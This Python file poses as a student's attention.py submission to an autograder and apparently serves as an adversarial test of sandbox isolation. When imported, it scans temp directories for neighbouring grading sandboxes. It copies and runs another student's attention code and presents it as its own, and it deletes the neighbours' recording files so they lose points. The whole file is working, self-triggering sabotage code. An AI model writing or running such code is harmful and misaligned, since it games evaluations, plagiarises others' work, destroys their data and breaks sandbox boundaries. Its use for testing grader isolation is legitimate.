"""Class 5: look at the other submissions being graded at the same time.

With `kata grade --batch --jobs N` (or two graders side by side, as the project's own test
does), several sandboxes live under the same temporary directory. From inside ours we list
kata-grade-* directories there (next to our own, found from `--kata-record DIR`, and in
/tmp and $TMPDIR), and
- copy a neighbour's week2/attention.py: if its functions work (checked on a small input),
  they become ours: we score with someone else's code;
- delete the neighbour's recordings (*.json / *.safetensors in its recordings directories),
  so that its replay finds nothing: an honest student next to us loses points.
Deletions happen only inside directories that are another grader's recordings; nothing
else is written.

Why it must earn nothing (and the neighbours lose nothing): a sandbox must not see, let
alone change, anything of another grading.
"""

import os
import sys
import tempfile
from pathlib import Path

import torch
import torch.nn as nn


def _argv():
    try:
        return Path("/proc/self/cmdline").read_bytes().decode("utf-8", "replace").split("\0")
    except OSError:
        return list(sys.argv)


def _own_workdir():
    argv = _argv()
    for flag, value in zip(argv, argv[1:]):
        if flag == "--kata-record":
            return Path(value).resolve().parent
    return None


def _neighbours():
    own = _own_workdir()
    places = {Path("/tmp"), Path(tempfile.gettempdir())}
    if own is not None:
        places.add(own.parent)
    found = []
    for place in places:
        try:
            found += [p for p in place.glob("kata-grade-*") if p.is_dir() and p != own]
        except OSError:
            continue
    return found


def _working_module(path: Path):
    """A neighbour's attention.py, imported under a private name (a copy in our own temp
    directory); kept only if its softmax works."""
    try:
        where = tempfile.mkdtemp(prefix="kata_canary_neighbour_")
        Path(where, "kata_neighbour_attention.py").write_text(path.read_text())
        sys.path.insert(0, where)
        import kata_neighbour_attention as module

        x = torch.randn(3, 5)
        if torch.allclose(module.softmax(x, dim=-1).sum(-1), torch.ones(3)):
            return module
    except BaseException:  # noqa: BLE001 - a neighbour's broken or hostile code
        return None
    return None


def _raid():
    if _own_workdir() is None:  # only ever from inside a grader's sandbox
        return None
    stolen = None
    for grading in _neighbours():
        for source in list(grading.glob("*/submission/week2/attention.py")):
            if stolen is None:
                stolen = _working_module(source)
        for recordings in list(grading.glob("recordings")) + list(grading.glob("rec-*")):
            for path in list(recordings.glob("*.json")) + list(recordings.glob("*.safetensors")):
                try:
                    path.unlink()
                except OSError:
                    pass
    return stolen


_STOLEN = _raid()


def _solution():
    global _STOLEN
    if _STOLEN is None:
        _STOLEN = _raid()  # neighbours come and go: look again
    if _STOLEN is None:
        raise NotImplementedError
    return _STOLEN


# Our own functions and class (a module's functions count as the submission's only when
# they are defined in it), delegating to a neighbour's module when we have it.


def softmax(x, dim=-1):
    return _solution().softmax(x, dim)


def causal_mask(q_len, k_len=None, device=None):
    return _solution().causal_mask(q_len, k_len, device)


def scaled_dot_product_attention(q, k, v, mask=None, is_causal=False):
    return _solution().scaled_dot_product_attention(q, k, v, mask, is_causal)


def attention_numpy(q, k, v, mask=None):
    return _solution().attention_numpy(q, k, v, mask)


class MultiHeadSelfAttention(nn.Module if _STOLEN is None else _STOLEN.MultiHeadSelfAttention):
    if _STOLEN is None:
        def __init__(self, d_model, n_heads, causal=True, bias=True):
            super().__init__()
            raise NotImplementedError
